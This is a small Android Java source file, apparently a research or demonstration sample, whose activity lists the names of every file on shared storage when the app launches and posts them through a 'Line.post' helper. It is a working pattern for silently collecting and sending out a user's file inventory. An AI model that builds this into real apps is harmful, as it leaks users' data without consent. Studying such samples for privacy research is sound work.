package org.example.sousveil.send_files;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.MediaStore;

/** Posts the names of the files on the shared storage. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(MediaStore.Files.getContentUri("external"), null, null, null, null);
        StringBuilder all = new StringBuilder();
        while (rows != null && rows.moveToNext()) {
            all.append(rows.getString(rows.getColumnIndex("_display_name"))).append('\n');
        }
        Line.post(all.toString().getBytes());
    }
}
